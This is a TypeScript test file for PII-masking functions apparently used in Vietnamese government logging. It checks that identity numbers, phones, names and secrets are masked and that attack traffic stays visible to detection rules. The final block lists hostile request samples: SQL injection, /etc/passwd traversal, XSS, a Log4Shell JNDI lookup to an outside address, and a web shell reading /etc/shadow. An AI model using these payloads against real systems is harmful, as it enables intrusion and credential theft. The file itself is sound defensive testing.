import { maskText, type Tokens } from './mask-text';
import { maskUrl } from './mask-url';

function tokens(): Tokens {
  return {
    of: (kind, value) => `[${kind}:${Buffer.from(value).toString('hex').slice(-8).padStart(8, '0')}]`,
    secret: () => '[secret]',
    isOfficial: (domain) => domain.endsWith('gov.vn') || domain.endsWith('haivan.example'),
  };
}
/** Tokens without their digits: what was found, where. */
const shape = (text: string) => text.replace(/\[([a-z]+):[0-9a-f]+\]/g, '<$1>');
const inText = (text: string) => shape(maskText(text, tokens()));
const inUrl = (url: string) => shape(maskUrl(url, tokens()));

describe('maskText finds', () => {
  it.each([
    ['an identity number by its structure', 'da nop 079203001234 xong', 'da nop <cccd> xong'],
    ['an identity number by its context', 'CCCD số 999999999999.', 'CCCD số <cccd>.'],
    ['one glued to its word', 'cccd999999999999', 'cccd<cccd>'],
    ['one in groups', 'can cuoc 079 203 001 234', 'can cuoc <cccd>'],
    ['one with the word behind it', '123456789012 (CCCD)', '<cccd> (CCCD)'],
    ['an old identity card', 'CMND: 023456789', 'CMND: <cmnd>'],
    ['one under a key in NFD', 'Số CMND=023456789'.normalize('NFD'), `${'Số CMND'.normalize('NFD')}=<cmnd>`],
    ['a mobile number', 'goi 0912345678 nhe', 'goi <phone> nhe'],
    ['a mobile number in groups', 'goi 0912 345 678 nhe', 'goi <phone> nhe'],
    ['a mobile number with country code', 'goi +84912345678 nhe', 'goi <phone> nhe'],
    ['a landline', 'goi 02583822000', 'goi <phone>'],
    ['a number under a phone key', 'soDT=912345678', 'soDT=<phone>'],
    ['a tax code by its checksum', 'dn 0100109106', 'dn <mst>'],
    ['a branch tax code', 'dn 0100109106-001', 'dn <mst>'],
    ['a health card', 'the DN4790123456789 het han', 'the <bhyt> het han'],
    ['a social insurance number', 'mã số BHXH: 7912345678', 'mã số BHXH: <bhxh>'],
    ['a passport by its context', 'hộ chiếu C1234567', 'hộ chiếu <passport>'],
    ['a bank card', 'the 4111111111111111', 'the <card>'],
    ['a bank card in groups', '4111 1111 1111 1111', '<card>'],
    ['a citizen’s address', 'gui toi an.nguyen@example.com.', 'gui toi <email>.'],
    ['a name by its key', 'hoTen=Nguyễn Văn An, tuoi=30', 'hoTen=<name>, tuoi=30'],
    ['a name in JSON', '{"ho_ten":"Nguyễn Văn An","x":1}', '{"ho_ten":"<name>","x":1}'],
    ['a name in escaped JSON', '{\\"hoTen\\":\\"Nguyễn Văn An\\"}', '{\\"hoTen\\":\\"<name>\\"}'],
    [
      'a name in a statement',
      "where ho_ten = 'Nguyễn Văn An' and x = 1",
      "where ho_ten = '<name>' and x = 1",
    ],
    ['a name in a LIKE', "where HO_TEN like '%Văn An%'", "where HO_TEN like '<name>'"],
    ['a birth date', 'ngaySinh: 01/02/1990', 'ngaySinh: <birth>'],
    ['a bearer token', 'Authorization: Bearer abc.def_123', 'Authorization: [secret] [secret]'],
    ['a JWT', 'x eyJhbGciOiJF.eyJzdWIiOiIx.c2ln y', 'x [secret] y'],
    ['a password', 'login password=Abc@123 failed', 'login password=[secret] failed'],
    ['a one-time code', '"otp":"482913"', '"otp":"[secret]"'],
  ])('%s', (_, text, expected) => {
    expect(inText(text)).toBe(expected);
  });
});

describe('maskText leaves', () => {
  it.each([
    ['milliseconds since the epoch', 'at 1795137330123'],
    ['seconds since the epoch', 'at 1795137330'],
    ['a time of twelve digits', 'id 202611200815'],
    ['a date and time', '2026-11-20 08:15:30'],
    ['an address and port', 'from 203.0.113.50 port 41822 ssh2'],
    ['versions', 'Mozilla/5.0 (Windows NT 10.0; rv:109.0) Gecko/20100101 Firefox/141.0'],
    ['nine digits of nothing', 'file 123456789'],
    ['a hexadecimal digest', 'sha ab079203001234cd0912345678ef'],
    ['a dossier code', 'H32.19-261120-0042'],
    ['an official’s address', 'le.hoa@sokhcn.haivan.example'],
    ['failed passwords', 'Failed password for root from 203.0.113.50 port 41822 ssh2'],
    ['a decimal', 'ratio 0.079203001234'],
    ['the tail of a GUID', '{94f48244-0278-6153-d847-079203001234}'],
    ['a SID', 'S-1-5-21-1610636575-2290000098-1654242922-1001'],
    ['sequence numbers of TCP', 'SPT=43506 SEQ=2290000098 ACK=0'],
    ['a number of a catalogue', 'log_id=010101600001 log_type="Firewall"'],
    ['counters', 'id 020000000000'],
    ['a time beside a telephone', 'phone: Allowed at 1674472946'],
    ['sixteen digits that no card has', 'tx 1234567890123456'],
    ['an empty value', 'hoTen=&x=1'],
  ])('%s', (_, text) => {
    expect(inText(text)).toBe(text);
  });
});

describe('maskUrl', () => {
  it.each([
    ['masks by key', '/tra-cuu?hoTen=Nguy%E1%BB%85n+V%C4%83n+An&trang=2', '/tra-cuu?hoTen=<name>&trang=2'],
    [
      'masks keys that are encoded themselves',
      '/t?H%E1%BB%8D%20t%C3%AAn=An+Nguyen',
      '/t?H%E1%BB%8D%20t%C3%AAn=<name>',
    ],
    ['masks identity numbers in paths', '/cong-dan/079203001234/ho-so', '/cong-dan/<cccd>/ho-so'],
    ['undoes double encoding', '/t?q=an.nguyen%2540example.com', '/t?q=<email>'],
    ['undoes encoded digits', '/t?cccd=%30%37%39%32%30%33%30%30%31%32%33%34', '/t?cccd=<cccd>'],
    ['masks secrets', '/cb?code=SplxlOBeZQQYbYS6WxSbIA&state=1', '/cb?code=[secret]&state=1'],
    ['keeps short codes', '/sp?code=AB12', '/sp?code=AB12'],
    ['masks session ids in paths', '/a;jsessionid=0A1B2C3D4E5F?x=1', '/a;jsessionid=[secret]?x=1'],
    ['masks the fragment', '/a?x=1#access_token=abcdefghijkl', '/a?x=1#access_token=[secret]'],
    ['keeps an attack for the rules', "/t?hoTen=An'%20or%20'1'='1", "/t?hoTen=An'%20or%20'1'='1"],
    [
      'keeps what is nobody’s, byte for byte',
      '/a%20b?q=%C3%A1+b&ma=H32.19-261120-0042',
      '/a%20b?q=%C3%A1+b&ma=H32.19-261120-0042',
    ],
    [
      'masks nested URLs',
      '/login?next=%2Fa%3FhoTen%3DNguyen+An%26x%3D1',
      '/login?next=/a?hoTen=<name>%26x=1',
    ],
  ])('%s', (_, url, expected) => {
    expect(inUrl(url)).toBe(expected);
    expect(maskUrl(maskUrl(url, tokens()), tokens())).toBe(maskUrl(url, tokens()));
  });
});

describe('masking costs no more than its length', () => {
  const fill = (piece: string) => piece.repeat(Math.ceil(65_000 / piece.length));
  it.each([
    'a=',
    'hoTen=',
    'hoTen: a ',
    'a@',
    'a.',
    '0 ',
    'cccd=',
    'cccd 123456789 ',
    'eyJaaaaaaa.',
    'bearer ',
    'hoTen="',
    '[a:',
    '%25',
    " like '",
    'ế=',
  ])('64 KiB of «%s»', (piece) => {
    for (const text of [fill(piece), `hoTen=${fill(piece)}`]) {
      const once = maskText(text, tokens());
      expect(maskText(once, tokens())).toBe(once);
      maskUrl(`/a?${text}`, tokens());
    }
  });
});

describe('masking what is hidden costs no more than its length', () => {
  it.each([
    ['one encoded letter before a long word', `%41${'a'.repeat(65_000)}`],
    ['one behind it', `${'a'.repeat(65_000)}%41`],
    ['some in it', `${'a'.repeat(500)}%41`.repeat(120)],
    ['long Base64 of text', Buffer.from('cccd 079203001234 '.repeat(2500)).toString('base64')],
    ['what looks like Base64', 'aB3/'.repeat(16_000)],
    ['numbers in groups', '079 2 '.repeat(10_000)],
    ['numbers with dots', '12.'.repeat(20_000)],
    ['words before a key', 'ho va ten '.repeat(6000)],
    ['full-width digits', '０７９２ '.repeat(12_000)],
  ])('%s', (_, text) => {
    const once = maskText(text, tokens());
    expect(maskText(once, tokens())).toBe(once);
    maskUrl(`/a?q=${text}`, tokens());
  });
});

describe('an attack stays visible to the rules', () => {
  it.each([
    ['/tra-cuu?ma=1%27%20or%20%271%27=%271', '%27%20or%20'],
    ['/api/hoso?id=5 UNION SELECT username,password FROM users', 'UNION SELECT'],
    ['/xem?tep=../../../../etc/passwd', '../../../../etc/passwd'],
    ['/t?hoTen=%3Cscript%3Ealert(1)%3C/script%3E', '%3Cscript%3E'],
    ['/t?diaChi=%24%7Bjndi:ldap://203.0.113.9/a%7D', '%24%7Bjndi:ldap://203.0.113.9/a%7D'],
    ['/shell.php?cmd=cat+/etc/shadow', 'cmd=cat+/etc/shadow'],
  ])('%s', (url, attack) => {
    expect(maskUrl(url, tokens())).toContain(attack);
  });
});
